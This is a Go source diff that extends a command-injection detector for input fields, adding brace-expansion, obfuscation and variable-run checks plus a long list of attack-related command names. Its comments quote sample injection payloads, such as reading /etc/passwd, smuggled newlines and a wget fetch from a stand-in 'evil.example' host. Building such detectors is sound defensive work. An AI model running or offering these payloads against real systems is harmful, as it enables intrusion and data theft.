@@ -31,7 +31,27 @@ import "strings"
 //   - text: not scanned (model output is full of shell).
 
 func cmdCandidate(m classes) bool {
-	return m.has(cSemi | cPipe | cAmp | cBacktick | cDollar | cLF | cCR | cPct | cLBrace | cGT | cLT)
+	return m.has(cSemi | cPipe | cAmp | cBacktick | cDollar | cLF | cCR | cPct | cLBrace | cGT | cLT | cBackslash)
+}
+
+// cmdWorth is the pre-filter: a separator or substitution character, or
+// for hosts and file names anything that may start a command line, or a
+// batch keyword or a call.
+func cmdWorth(k FieldKind, s string, m classes) bool {
+	if cmdCandidate(m) {
+		return true
+	}
+	switch k {
+	case KindHost:
+		if len(s) > 0 && s[0] == '-' || m.has(cParen|cQuote|cPlus) || strings.ContainsAny(strings.TrimSpace(s), " \t") {
+			return true
+		}
+	case KindFilename, KindUnknown:
+		if m.has(cPlus|cQuote) || strings.IndexByte(s, ' ') >= 0 {
+			return true
+		}
+	}
+	return cmdShapeCandidate(s, m)
 }
 
 // globCommand reports a command named by a wildcard path right after a
@@ -79,7 +99,30 @@ func globPath(s string) string {
 }
 
 func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
-	if !cmdCandidate(m) && !(k == KindHost && len(s) > 0 && s[0] == '-') {
+	if !cmdWorth(k, s, m) {
+		return
+	}
+	if !cmdCandidate(m) && k != KindHost && !m.has(cParen|cQuote|cBracket|cStar|cPlus) {
+		// No separator, substitution or quote: only a command line from
+		// the first word ("whoami", "which netcat", "FOR /D %a IN …" is
+		// a candidate by its '%') can be here.
+		if k == KindUnknown || k == KindFilename {
+			if span := commandLineStart(s, k == KindFilename); span != "" {
+				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
+				return
+			}
+		}
+		if k == KindFilename {
+			if span := bareCommand(s); span != "" {
+				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
+				return
+			}
+		}
+		if m.has(cPct|cEq|cSlash) || batchStart(s) {
+			if rule, span := cmdShapes(s, m); rule != "" {
+				c.report(k, ThreatCmdInjection, rule, span, false)
+			}
+		}
 		return
 	}
 	t := s
@@ -92,9 +135,17 @@ func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
 	}
 	switch k {
 	case KindHost:
-		// A host name or address never holds shell syntax.
+		// A host name or address never holds shell syntax, nor spaces.
 		if span := shellMeta(t); span != "" {
 			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
+			return
+		}
+		if span := hostMeta(t); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
+			return
+		}
+		if span := hostCommand(t); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.host_command", span, false)
 			return
 		}
 		if len(t) > 0 && t[0] == '-' {
@@ -108,6 +159,27 @@ func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
 		// by a command, below.
 		if span := substitution(t); span != "" {
 			c.report(k, ThreatCmdInjection, "cmd.substitution", span, false)
+			return
+		}
+		if k == KindFilename {
+			if span := bareCommand(t); span != "" {
+				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
+				return
+			}
+			if span := commandLineStart(t, true); span != "" {
+				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
+				return
+			}
+		}
+	case KindUnknown:
+		if span := commandLineStart(t, false); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
+			return
+		}
+	}
+	if m.has(cQuote | cBacktick | cBackslash | cDollar) {
+		if span := obfuscatedCommand(t, k != KindPath && k != KindFilename); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.obfuscated", span, false)
 			return
 		}
 	}
@@ -133,6 +205,16 @@ func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
 	}
 	if span := globPath(t); span != "" {
 		c.report(k, ThreatCmdInjection, "cmd.glob", span, false)
+		return
+	}
+	if m.has(cSlash) && strings.ContainsAny(t, "?*[") {
+		if span := globTarget(t); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.glob", span, false)
+			return
+		}
+	}
+	if rule, span := cmdShapes(t, m); rule != "" {
+		c.report(k, ThreatCmdInjection, rule, span, false)
 		return
 	}
 	if rule, span := shellDanger(t, m); rule != "" {
@@ -212,6 +294,23 @@ func chainedCommand(s string, k FieldKind) (string, string) {
 		case '\n', '\r':
 			next = i + 1
 			weak = true
+		case '\\':
+			// A literal "\n" where the payload expects a decoder to make a
+			// newline of it: "10.0.0.5\n/usr/bin/id\n".
+			if i+1 >= len(s) || (s[i+1] != 'n' && s[i+1] != 'r') {
+				continue
+			}
+			next = ansiEscape(s, i+2)
+			weak = true
+		case '{':
+			// Brace expansion runs its first word with the rest as
+			// arguments: {cat,/etc/passwd}, {,$'whoami',}.
+			if cmd, _, _ := commandAt(s, i); cmd != "" {
+				if e := strings.Index(s[i:], cmd) + i + len(cmd); e < len(s) && (s[e] == ',' || s[e] == '\'' && e+1 < len(s) && s[e+1] == ',') {
+					return "cmd.brace_expansion", s[i:min(len(s), e+1)]
+				}
+			}
+			continue
 		case '`':
 			// A Markdown code span "run `ls -la` now" is text, not a
 			// substitution: it needs a non-space before it or to start
@@ -225,23 +324,29 @@ func chainedCommand(s string, k FieldKind) (string, string) {
 				}
 			}
 			continue
-		case '$':
+		case '$', '<', '>':
+			// $(…) and process substitution <(…) >(…) are shell syntax
+			// whatever command they hold, when they close: "<(cat file)".
 			if i+1 < len(s) && s[i+1] == '(' && (i+2 >= len(s) || s[i+2] != '(') {
-				if cmd, strong, shaped := commandAt(s, i+2); cmd != "" && (strong || shaped) {
+				if cmd, _, _ := commandAt(s, i+2); cmd != "" && strings.IndexByte(s[i+2:], ')') >= 0 {
 					return "cmd.substitution", s[i:min(len(s), i+16)]
 				}
 			}
-			continue
-		case '<', '>':
-			// process substitution <(…) >(…)
-			if i+1 < len(s) && s[i+1] == '(' {
-				if cmd, strong, shaped := commandAt(s, i+2); cmd != "" && (strong || shaped) {
-					return "cmd.substitution", s[i:min(len(s), i+16)]
+			if ch == '$' && i > 0 && i+1 < len(s) && isAlpha(s[i+1]) && isSeparator(s[i-1]) {
+				// "garb=adduse[r];$garb pizza": a command assembled in a
+				// variable and run by name.
+				if span := variableRun(s, i); span != "" {
+					return "cmd.variable", span
 				}
 			}
 			continue
 		default:
 			continue
+		}
+		if !weak && ch != '&' {
+			if span := functionDef(s, next); span != "" {
+				return "cmd.function_def", span
+			}
 		}
 		cmd, strong, shaped := commandAt(s, next)
 		if cmd == "" {
@@ -257,6 +362,11 @@ func chainedCommand(s string, k FieldKind) (string, string) {
 		if !shaped && !(strong && (endsCommand(s, end) || hostPort(s, end))) {
 			continue
 		}
+		if ch == '|' && next == i+1 && !strong && pipeFilter(cmd) && strings.TrimSpace(s[end:]) == "" {
+			// "-la | sort": a pipeline ending in a filter is an argument
+			// list, not a payload.
+			continue
+		}
 		return "cmd.chained", s[i:min(len(s), next+len(cmd)+8)]
 	}
 	return "", ""
@@ -268,7 +378,8 @@ func endsCommand(s string, i int) bool {
 	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
 		i++
 	}
-	return i >= len(s) || s[i] == '\n' || s[i] == '\r' || s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '#' || s[i] == '`' || s[i] == ')'
+	return i >= len(s) || s[i] == '\n' || s[i] == '\r' || s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '#' || s[i] == '`' || s[i] == ')' ||
+		s[i] == '\\' && i+1 < len(s) && (s[i+1] == 'n' || s[i+1] == 'r')
 }
 
 // commandAt reads the command word at s[i:] (after spaces, '{', '(' and a
@@ -277,11 +388,11 @@ func endsCommand(s string, i int) bool {
 // word is not also an everyday English word; shaped says an argument that
 // looks like one follows (an option, a path, a number, a redirection).
 func commandAt(s string, i int) (cmd string, strong, shaped bool) {
-	i = skipSpace(s, i)
+	i = skipCmdSpace(s, i)
 	brace := false
-	for i < len(s) && (s[i] == '{' || s[i] == '(' || s[i] == '!') {
+	for start := i; i < len(s) && i-start < 8 && (s[i] == '{' || s[i] == '(' || s[i] == '!' || (brace && s[i] == ',')); {
 		brace = brace || s[i] == '{'
-		i = skipSpace(s, i+1)
+		i = skipCmdSpace(s, i+1)
 	}
 	var w [24]byte
 	n := 0
@@ -289,14 +400,22 @@ func commandAt(s string, i int) (cmd string, strong, shaped bool) {
 	for j < len(s) && n < len(w) {
 		ch := s[j]
 		switch {
+		case ch == '\\' && j+1 < len(s) && (s[j+1] == 'n' || s[j+1] == 'r') && n > 0 && isCommandWord(w[:n]):
+			// "/usr/bin/id\n": a literal newline escape ends the word.
 		case ch == '\'' || ch == '"' || ch == '\\':
 			j++
 			continue
-		case ch == '$' && j+1 < len(s) && (s[j+1] == '@' || s[j+1] == '*'):
-			j += 2
+		case ch == '$' && j+2 < len(s) && (s[j+1] == '(' && s[j+2] == ')' || s[j+1] == '{' && s[j+2] == '}'):
+			j += 3 // "pi$()ng": an empty substitution
 			continue
-		case ch == '$' && j+2 < len(s) && s[j+1] == '{' && s[j+2] == '}':
-			j += 3
+		case ch == '$' && j+1 < len(s) && (s[j+1] == '@' || s[j+1] == '*' || s[j+1] == '!' || s[j+1] >= '1' && s[j+1] <= '9'):
+			j += 2 // "c$@at", "c$!at": parameters that expand to nothing
+			continue
+		case ch == '$' && j+1 < len(s) && (s[j+1] == '\'' || s[j+1] == '"'):
+			j++ // $'…' is a quoted string to bash
+			continue
+		case ch == '`' && j+1 < len(s) && s[j+1] == '`':
+			j += 2 // an empty substitution: ping`` 127.0.0.1
 			continue
 		case ch == '/':
 			n = 0 // keep only the last path element: /usr/bin/id is id
@@ -321,7 +440,25 @@ func commandAt(s string, i int) (cmd string, strong, shaped bool) {
 	}
 	tier, ok := commandWords[string(w[:n])]
 	if !ok {
-		return "", false, false
+		// "ansible-config", "chef-vault": a tool's sub-binary;
+		// "gcc7.4", "python3.10": a versioned one.
+		if d := strings.IndexByte(string(w[:n]), '-'); d > 1 {
+			tier, ok = commandWords[string(w[:d])]
+		}
+		if v := n; !ok && isDigit(w[n-1]) {
+			for v > 1 && (isDigit(w[v-1]) || w[v-1] == '.') {
+				v--
+			}
+			if v > 1 {
+				tier, ok = commandWords[string(w[:v])]
+				if !ok {
+					tier, ok = commandWords[string(w[:v+1])]
+				}
+			}
+		}
+		if !ok {
+			return "", false, false
+		}
 	}
 	if sub := subcommands[string(w[:n])]; sub != nil && j < len(s) && s[j] == ' ' {
 		// "net user", "reg query": a Windows command with its verb.
@@ -338,6 +475,9 @@ func commandAt(s string, i int) (cmd string, strong, shaped bool) {
 			}
 		}
 	}
+	if tier == subCmd {
+		return "", false, false
+	}
 	// An assignment or a key ("&id=5", "cat: 3") is not a command.
 	if j < len(s) && (s[j] == '=' || s[j] == ':') {
 		return "", false, false
@@ -349,10 +489,30 @@ func commandAt(s string, i int) (cmd string, strong, shaped bool) {
 	}
 	if tier == weakCmd && j < len(s) && (s[j] == '|' || s[j] == ';' || s[j] == '&') {
 		// "verify|query|reindex": an English word between separators is
-		// an enumeration, not a command.
+		// an enumeration, not a command; "dir|c:\" has a drive after it.
+		return s[i:j], false, drivePath(s, j+1)
+	}
+	if tier == weakCmd && nounCommands[string(w[:n])] && endsCommand(s, j) {
+		// "MySQL | Redis | Docker": a tool named in a list
 		return s[i:j], false, false
 	}
 	return s[i:j], tier == strongCmd, argShaped(s, j)
+}
+
+// nounCommands are tools people name in lists and sentences ("Docker;
+// Kubernetes; Terraform"); they count as commands only with an argument.
+var nounCommands = map[string]bool{
+	"docker": true, "podman": true, "kubectl": true, "terraform": true, "ansible": true, "vagrant": true,
+	"npm": true, "pnpm": true, "pip": true, "pip3": true, "deno": true, "svn": true, "sqlite3": true,
+	"gpg": true, "tmux": true, "vim": true, "vi": true, "nano": true, "emacs": true, "psql": true,
+	"mysql": true, "mongo": true, "git": true, "hg": true, "composer": true, "puppet": true, "chef": true,
+	"pacman": true, "apk": true, "node": true, "java": true, "lua": true, "make": true, "hydra": true,
+	"finger": true, "service": true, "calc": true, "zip": true, "mail": true, "host": true,
+}
+
+func isCommandWord(w []byte) bool {
+	_, ok := commandWords[string(w)]
+	return ok
 }
 
 // argShaped reports an argument that looks like one: an option, a path,
@@ -426,8 +586,8 @@ func pathArgShaped(s string, j int) bool {
 		}
 		return e == len(s) || isSpace(s[e]) || s[e] == ';' || s[e] == '|' || s[e] == '&'
 	}
-	if k+2 < len(s) && isAlpha(s[k]) && s[k+1] == ':' && (s[k+2] == '\\' || s[k+2] == '/') {
-		return true // a drive path: "type C:\Windows\win.ini"
+	if drivePath(s, k) || winVar(s, k) {
+		return true // a drive path or a variable: "type C:\Windows\win.ini", "type %SYSTEMROOT%\…"
 	}
 	// a URL: "wget http://evil.example/x"
 	e := k
@@ -465,12 +625,25 @@ func hostPort(s string, j int) bool {
 const (
 	weakCmd   = 1
 	strongCmd = 2
+	subCmd    = 3 // a command only with one of its subcommands ("sc query")
 )
 
 // subcommands make a weak word a command: "net user", "reg query".
 var subcommands = map[string]map[string]bool{
-	"net": {"user": true, "users": true, "localgroup": true, "group": true, "share": true, "view": true, "use": true, "session": true, "accounts": true, "start": true, "stop": true},
-	"reg": {"query": true, "add": true, "delete": true, "export": true, "save": true},
+	"net":       {"user": true, "users": true, "localgroup": true, "group": true, "share": true, "view": true, "use": true, "session": true, "accounts": true, "start": true, "stop": true},
+	"reg":       {"query": true, "add": true, "delete": true, "export": true, "save": true},
+	"docker":    {"run": true, "exec": true, "pull": true, "cp": true, "build": true, "images": true, "ps": true, "inspect": true},
+	"podman":    {"run": true, "exec": true, "pull": true, "cp": true},
+	"kubectl":   {"get": true, "exec": true, "apply": true, "delete": true, "run": true, "describe": true, "logs": true, "cp": true, "auth": true},
+	"git":       {"clone": true, "pull": true, "push": true, "log": true, "config": true, "checkout": true, "reset": true, "remote": true},
+	"npm":       {"install": true, "i": true, "run": true, "exec": true, "publish": true},
+	"pnpm":      {"install": true, "add": true, "run": true, "exec": true, "dlx": true},
+	"pip":       {"install": true, "download": true, "uninstall": true},
+	"pip3":      {"install": true, "download": true, "uninstall": true},
+	"ansible":   {"all": true, "localhost": true},
+	"terraform": {"apply": true, "destroy": true, "init": true, "plan": true},
+	"sc":        {"query": true, "create": true, "config": true, "start": true, "stop": true, "delete": true},
+	"wmic":      {"process": true, "os": true, "useraccount": true, "service": true, "qfe": true, "product": true},
 }
 
 // commandWords are the commands injection payloads run. Strong ones are
@@ -508,6 +681,97 @@ var commandWords = map[string]int{
 	"shutdown": strongCmd, "reboot": strongCmd, "halt": weakCmd, "lsof": strongCmd,
 	"ss": weakCmd, "arp": strongCmd, "route": weakCmd, "iptables": strongCmd, "xterm": strongCmd,
 	"del": weakCmd, "copy": weakCmd, "fsockopen": strongCmd, "system": weakCmd,
+
+	// Archives, encodings and file tools.
+	"gunzip": strongCmd, "bunzip2": strongCmd, "bzip2": strongCmd, "xz": strongCmd, "unxz": strongCmd,
+	"zcat": strongCmd, "bzcat": strongCmd, "xzcat": strongCmd, "7z": strongCmd, "7za": strongCmd,
+	"unrar": strongCmd, "cpio": strongCmd, "base32": strongCmd, "uuencode": strongCmd, "uudecode": strongCmd,
+	"iconv": strongCmd, "shred": strongCmd, "truncate": weakCmd, "readlink": strongCmd, "realpath": strongCmd,
+	"dirname": strongCmd, "basename": weakCmd, "updatedb": strongCmd, "stat": weakCmd,
+	"du": weakCmd, "df": strongCmd, "diff": weakCmd, "cmp": strongCmd,
+	"comm": weakCmd, "tr": weakCmd,
+	"shuf":   strongCmd,
+	"md5sum": strongCmd, "sha1sum": strongCmd, "sha256sum": strongCmd, "cksum": strongCmd,
+	"rsync": strongCmd, "ftp": strongCmd, "lftp": strongCmd, "smbclient": strongCmd,
+	"rpcclient": strongCmd, "ldapsearch": strongCmd, "umount": strongCmd,
+	"mkfs": strongCmd, "fdisk": strongCmd, "chgrp": strongCmd, "setfacl": strongCmd, "getfacl": strongCmd,
+	"chroot": strongCmd, "unlink": weakCmd, "mktemp": strongCmd, "mknod": strongCmd, "jq": strongCmd,
+	"vi": weakCmd, "vim": weakCmd, "nano": weakCmd, "emacs": weakCmd,
+
+	// Processes, users and the system.
+	"strace": strongCmd, "ltrace": strongCmd, "gdb": strongCmd,
+	"renice": strongCmd, "setsid": strongCmd, "disown": strongCmd, "su": weakCmd,
+	"doas": strongCmd, "pkexec": strongCmd, "runuser": strongCmd, "who": weakCmd, "w": weakCmd,
+	"lastlog": strongCmd, "finger": weakCmd,
+	"usermod": strongCmd, "userdel": strongCmd, "groupadd": strongCmd, "adduser": strongCmd,
+	"deluser": strongCmd, "chpasswd": strongCmd, "visudo": strongCmd, "htop": strongCmd,
+	"vmstat": strongCmd, "iostat": strongCmd, "lscpu": strongCmd, "lsblk": strongCmd,
+	"lsmod": strongCmd, "modprobe": strongCmd, "insmod": strongCmd, "dmesg": strongCmd, "sysctl": strongCmd,
+	"ulimit": strongCmd, "umask": strongCmd, "alias": weakCmd, "unalias": strongCmd,
+	"systemctl": strongCmd, "service": weakCmd, "journalctl": strongCmd,
+	"hostnamectl": strongCmd, "ifup": strongCmd, "ifdown": strongCmd,
+	"tcpdump": strongCmd, "tshark": strongCmd, "masscan": strongCmd, "hydra": weakCmd, "sqlmap": strongCmd,
+	"nikto": strongCmd, "msfconsole": strongCmd, "msfvenom": strongCmd, "ssh-keygen": strongCmd,
+	"sshpass": strongCmd, "dnsenum": strongCmd, "fping": strongCmd, "mtr": strongCmd, "arping": strongCmd,
+	"getcap": strongCmd, "setcap": strongCmd, "capsh": strongCmd,
+	"tmux": weakCmd, "seq": weakCmd,
+	"builtin": weakCmd,
+
+	"unset": weakCmd, "shopt": strongCmd, "compgen": strongCmd,
+
+	// Interpreters, build tools and package managers.
+	"pip": weakCmd, "pip3": weakCmd, "npm": weakCmd, "npx": strongCmd,
+	"pnpm":  weakCmd,
+	"rustc": strongCmd, "javac": strongCmd, "jshell": strongCmd,
+	"irb": strongCmd, "deno": weakCmd, "tclsh": strongCmd,
+	"luajit": strongCmd, "php-cgi": strongCmd, "phpunit": strongCmd, "composer": weakCmd,
+	"apt": strongCmd, "apt-get": strongCmd, "aptitude": strongCmd, "yum": strongCmd, "dnf": strongCmd,
+	"apk": weakCmd, "rpm": strongCmd, "dpkg": strongCmd, "pacman": weakCmd,
+	"zypper": strongCmd, "git": weakCmd, "svn": weakCmd, "hg": weakCmd, "docker": weakCmd,
+	"podman": weakCmd, "kubectl": weakCmd, "terraform": weakCmd,
+	"ansible": weakCmd, "ansible-playbook": strongCmd, "chef": weakCmd, "chef-client": strongCmd,
+	"puppet": weakCmd, "vagrant": weakCmd, "mysql": weakCmd,
+	"mysqldump": strongCmd, "psql": weakCmd, "pg_dump": strongCmd, "sqlite3": weakCmd,
+	"mongo": weakCmd, "mongosh": strongCmd, "redis-cli": strongCmd, "gpg": weakCmd,
+	"expr": weakCmd, "mawk": strongCmd, "nawk": strongCmd,
+	"rbash": strongCmd, "mksh": strongCmd, "osascript": strongCmd,
+	"xdg-open": strongCmd,
+
+	// Windows built-ins and tools.
+	"xcopy": strongCmd, "robocopy": strongCmd, "erase": weakCmd,
+	"ren": weakCmd, "attrib": strongCmd, "cacls": strongCmd,
+	"icacls": strongCmd, "takeown": strongCmd, "findstr": strongCmd, "forfiles": strongCmd,
+	"wevtutil": strongCmd, "vssadmin": strongCmd, "bcdedit": strongCmd, "msiexec": strongCmd,
+	"regedit": strongCmd, "notepad": strongCmd, "calc": weakCmd, "mspaint": strongCmd, "odbcconf": strongCmd,
+	"installutil": strongCmd, "msbuild": strongCmd, "cmstp": strongCmd, "esentutl": strongCmd,
+	"extrac32": strongCmd, "makecab": strongCmd, "setx": strongCmd, "assoc": strongCmd,
+	"ftype": strongCmd, "pushd": strongCmd, "popd": strongCmd, "cls": weakCmd, "logoff": strongCmd,
+	"quser": strongCmd, "qwinsta": strongCmd, "klist": strongCmd, "runas": strongCmd, "psexec": strongCmd,
+	"sdelete": strongCmd, "schtasks": strongCmd, "taskkill": strongCmd, "netsh": strongCmd,
+	"nltest": strongCmd, "dsquery": strongCmd,
+	"certreq": strongCmd,
+	"mklink":  strongCmd, "subst": weakCmd,
+	"goto": weakCmd, "chcp": strongCmd, "doskey": strongCmd, "fsutil": strongCmd,
+	"diskpart": strongCmd, "gpresult": strongCmd, "gpupdate": strongCmd, "sfc": strongCmd, "ntdsutil": strongCmd,
+	"get-content": strongCmd, "invoke-expression": strongCmd, "iex": strongCmd, "invoke-webrequest": strongCmd,
+	"iwr": strongCmd, "start-process": strongCmd, "new-object": strongCmd, "get-childitem": strongCmd,
+	"gci": strongCmd, "get-process": strongCmd, "invoke-command": strongCmd, "sc": subCmd,
+
+	// Binaries that GTFOBins lists for shells, reads and uploads, and
+	// that are not everyday words.
+	"sysinfo": strongCmd, "perf": weakCmd, "aria2c": strongCmd, "arj": strongCmd, "ab": weakCmd,
+	"busctl": strongCmd, "cpan": strongCmd, "cpulimit": strongCmd, "dmsetup": strongCmd, "dosbox": strongCmd,
+	"easy_install": strongCmd, "eb": weakCmd, "gimp": weakCmd, "ghc": strongCmd, "ghci": strongCmd,
+	"hping3": strongCmd, "jjs": strongCmd, "jrunscript": strongCmd, "ksshell": strongCmd, "ldconfig": strongCmd,
+	"logsave": strongCmd, "msgfilter": strongCmd, "mysqld": strongCmd,
+	"nmcli": strongCmd, "nroff": strongCmd, "nsenter": strongCmd, "octave": weakCmd, "openvpn": strongCmd,
+	"pdb": weakCmd, "pic": weakCmd, "pry": weakCmd, "rlwrap": strongCmd, "rpmquery": strongCmd,
+	"run-parts": strongCmd, "rview": strongCmd, "rvim": strongCmd, "scrot": strongCmd, "slsh": strongCmd,
+	"smbmap": strongCmd, "sqlcmd": strongCmd, "ssh-keyscan": strongCmd, "start-stop-daemon": strongCmd,
+	"stdbuf": strongCmd, "taskset": strongCmd, "unshare": strongCmd,
+	"valgrind": strongCmd, "wall": weakCmd, "whiptail": strongCmd, "xdotool": strongCmd, "xmodmap": strongCmd,
+	"xmore": strongCmd, "zathura": strongCmd, "zsoelim": strongCmd, "ionice": strongCmd,
+	"flock": strongCmd, "cscli": strongCmd, "curlie": strongCmd, "httpie": strongCmd, "http": weakCmd,
 }
 
 // shellDanger finds the few shell constructs that are an attack wherever
